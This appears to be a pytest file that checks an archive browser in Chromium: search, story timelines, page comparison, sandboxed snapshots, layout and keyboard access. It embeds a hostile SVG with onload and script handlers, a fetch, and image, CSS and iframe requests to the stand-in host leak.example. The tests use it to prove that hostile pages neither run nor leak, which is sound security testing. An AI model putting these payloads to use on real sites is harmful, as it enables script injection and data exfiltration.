"""What a person sees who opens the archive in a browser, and what a hostile page can do there: nothing."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler

import pytest

from tests.archive.browse.chromium import CHROMIUM, Browser, browser
from tests.archive.browse.conftest import Room
from tests.archive.browse.invention import Served, build, hostile, invented
from tests.archive.browse.served import Server
from tests.small_server import SmallServer

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium here: apt-get install chromium")


class Tripwire(SmallServer):
    """Answers anything, and remembers that it was asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        tripwire = self

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                # a browser asks for its own updates too; for it every host is this one
                if self.headers["Host"] == "leak.example":
                    tripwire.asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - the name that http.server wants

            def log_message(self, format: str, *values: object) -> None:
                """Quiet."""

        super().__init__(("127.0.0.1", 0), Answer)


EVIL = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="document.title=&quot;owned&quot;">'
    '<script>window.owned = 1; document.title = "owned"; fetch("http://leak.example/script")</script>'
    '<image href="http://leak.example/image" width="9" height="9"/><style>@import "http://leak.example/css";</style>'
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://leak.example/frame'/></foreignObject></svg>"
)
DRAWN = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>图</title><link rel="stylesheet" href="/round.css"></head>'
    '<body><h1>图</h1><p>一幅会动手脚的图画。</p><img src="/evil.svg"><div style="background: url(/evil.svg)">底</div>'
    "</body></html>"
)
"""A page that shows a drawing with scripts, under a stylesheet that imports itself."""


@pytest.fixture(scope="module")
def tripwire() -> Iterator[Tripwire]:
    with Tripwire() as found:
        thread = threading.Thread(target=found.serve_forever)
        thread.start()
        yield found
        found.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    pages = [
        *invented(),
        Served("http://trap.example/a/9.html", hostile("http://leak.example").encode()),
        Served("http://trap.example/a/10.html", DRAWN.encode()),
        Served("http://trap.example/evil.svg", EVIL.encode(), "image/svg+xml"),
        Served("http://trap.example/round.css", b"@import url(round.css); p { color: red }", "text/css"),
    ]
    room = Room(build(tmp_path_factory.mktemp("browser") / "data", pages))
    server = Server(room)
    yield server.url
    server.stop()
    room.close()


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory, tripwire: Tripwire) -> Iterator[Browser]:
    """A browser for which every host but this machine's own address is the tripwire."""
    rules = f"MAP * 127.0.0.1:{tripwire.server_port}, EXCLUDE 127.0.0.1"
    with browser(tmp_path_factory.mktemp("profile"), f"--host-resolver-rules={rules}") as found:
        yield found


def test_from_a_word_to_the_page_as_it_was_by_clicking(page: Browser, url: str) -> None:
    page.open(f"{url}/")
    page.run("document.querySelector('input[name=q]').focus()")
    page.type("武漢")
    assert "<mark>武" in page.run("document.body.innerHTML")

    page.click("a.zz-storylink")
    assert "/-/story/" in page.run("location.pathname")
    assert page.run("document.querySelectorAll('svg.zz-timeline .zz-dot').length") >= 4

    page.click("tr:has(.zz-abridged) td a", "Compare")
    assert "/-/compare" in page.run("location.pathname")
    assert "韭菜鸡蛋馅" in page.run("document.querySelector('td del').textContent")

    page.click("th a", "Snapshot")
    assert "/-/capture/" in page.run("location.pathname")
    assert page.run("document.querySelector('iframe').getAttribute('sandbox')") == (
        "allow-top-navigation-by-user-activation"
    )
    assert page.complaints() == []


def test_the_comparison_can_be_chosen_by_ticking(page: Browser, url: str) -> None:
    page.open(f"{url}/archive/-/story/1")
    page.run("document.querySelectorAll('input[type=checkbox]').forEach(box => box.checked = true)")
    page.click("form button", "Compare those chosen")

    assert page.run("document.querySelectorAll('table.zz-compare th').length") == 4


def test_a_link_in_a_snapshot_leads_to_the_archived_page(page: Browser, url: str) -> None:
    """The frame's inside is closed even to the page around it: where the link stands is measured outside of it."""
    page.resize(1280, 3000)
    page.open(f"{url}/archive/-/capture/2")
    left, top, width = page.run(
        "(() => { const frame = document.querySelector('iframe'), box = frame.getBoundingClientRect();"
        " return [box.left + frame.clientLeft, box.top + frame.clientTop, frame.clientWidth] })()"
    )
    page.resize(width, 3000)
    page.open(f"{url}/archive/-/capture/2/page")
    x, y = page.run(
        "(() => { const box = document.querySelector('a').getBoundingClientRect();"
        " return [box.left + 5, box.top + 5] })()"
    )
    page.resize(1280, 3000)
    page.open(f"{url}/archive/-/capture/2")
    page.press(left + x, top + y)
    page.call("Emulation.clearDeviceMetricsOverride")

    assert page.run("location.pathname") == "/archive/-/capture/3"


@pytest.mark.parametrize("path", ["capture/{n}", "capture/{n}/page"])
def test_a_hostile_snapshot_runs_and_requests_nothing(
    page: Browser, url: str, tripwire: Tripwire, path: str
) -> None:
    tripwire.asked.clear()
    page.open(f"{url}/archive/-/" + path.format(n=14))
    # another whole page load: whatever the first one set off has had its time
    frames = page.call("Page.getFrameTree")["frameTree"]
    title = page.run("document.title")
    asked = page.asked()
    page.open(f"{url}/archive/-/home")

    assert tripwire.asked == []
    assert [address for address in asked if not address.startswith((url, "data:"))] == []
    assert title != "owned"
    assert frames["frame"]["url"].startswith(url)
    assert all(child["frame"]["url"].startswith(url) for child in frames.get("childFrames", []))
    assert page.run("window.owned") is None


@pytest.mark.parametrize(
    "path",
    ["capture/15", "capture/15/page", "capture/16", "capture/16/page", "web/2026id_/http://trap.example/evil.svg",
     "web/2026im_/http://trap.example/evil.svg", "web/2026/http://trap.example/evil.svg"],
)  # fmt: skip
def test_a_drawing_with_scripts_runs_and_requests_nothing(
    page: Browser, url: str, tripwire: Tripwire, path: str
) -> None:
    tripwire.asked.clear()
    page.open(f"{url}/archive/-/{path}")
    title, owned = page.run("document.title"), page.run("window.owned === undefined")
    page.open(f"{url}/archive/-/home")

    assert tripwire.asked == []  # every host but this one is the tripwire
    assert (title != "owned", owned) == (True, True)


def test_the_drawing_is_shown_all_the_same(page: Browser, url: str) -> None:
    page.open(f"{url}/archive/-/capture/15/page")

    assert page.run("document.images[0].naturalWidth") == 40
    assert page.run("getComputedStyle(document.querySelector('p')).color") == "rgb(255, 0, 0)"


def test_the_tripwire_would_have_noticed(page: Browser, url: str, tripwire: Tripwire) -> None:
    """A picture of the same address, shown without our care, is asked for: the test above can fail."""
    tripwire.asked.clear()
    page.open("about:blank")
    page.run("document.body.innerHTML = '<img src=\"http://leak.example/img.png\">'")
    page.run(
        "new Promise(done => { const i = document.images[0]; i.complete ? done() : i.onload = i.onerror = done })"
    )

    assert tripwire.asked == ["/img.png"]


PLACES = (
    "home", "search?q=武漢", "stories", "story/1", "article/1?q=武汉", "compare?with=1&with=2&with=3",
    "site/www.copy.example", "sites", "days", "day/2020-02-10", "capture/2",
    "web/2026*/http://www.second.example/a/1.html",
)  # fmt: skip


BACKWARDS = """
[...document.querySelectorAll(".zz-nav a, .zz-nav input")].filter((e, n, all) => n > 0
    && e.getBoundingClientRect().bottom <= all[n - 1].getBoundingClientRect().top).map(e => e.outerHTML.slice(0, 60))
"""
"""What the Tab key reaches in the bar after what stands below it."""


@pytest.mark.parametrize("width", [1280, 390])
def test_no_page_is_wider_than_the_screen_and_the_bar_is_reached_in_reading_order(
    page: Browser, url: str, width: int
) -> None:
    mobile = width < 600
    page.call(
        "Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=mobile
    )
    try:
        for place in PLACES:
            page.open(f"{url}/archive/-/{place}")
            assert page.run("document.documentElement.scrollWidth") <= width, place
            assert page.run(BACKWARDS) == [], place
            assert page.complaints() == [], place
    finally:
        page.call("Emulation.clearDeviceMetricsOverride")


@pytest.mark.parametrize("path", ["story/1", "web/2026*/http://www.second.example/a/1.html"])
def test_everything_can_be_reached_by_keyboard(page: Browser, url: str, path: str) -> None:
    page.open(f"{url}/archive/-/{path}")
    unreachable = page.run(  # a tree's line leads where the mark at its end does, which is the one stop of the two
        "(all => all.filter(e => e.tabIndex < 0 && !all.some(other => other.tabIndex >= 0"
        " && e.getAttribute('href') && other.getAttribute('href') === e.getAttribute('href'))).length)"
        "([...document.querySelectorAll('main a[href], main button, main input, main summary, main svg a')])"
    )
    nameless = page.run(
        "[...document.querySelectorAll('main input, main button, main iframe, main svg[role]')]"
        ".filter(e => !(e.labels?.length || e.getAttribute('aria-label') || e.title || e.textContent.trim())).length"
    )

    assert unreachable == 0
    assert nameless == 0
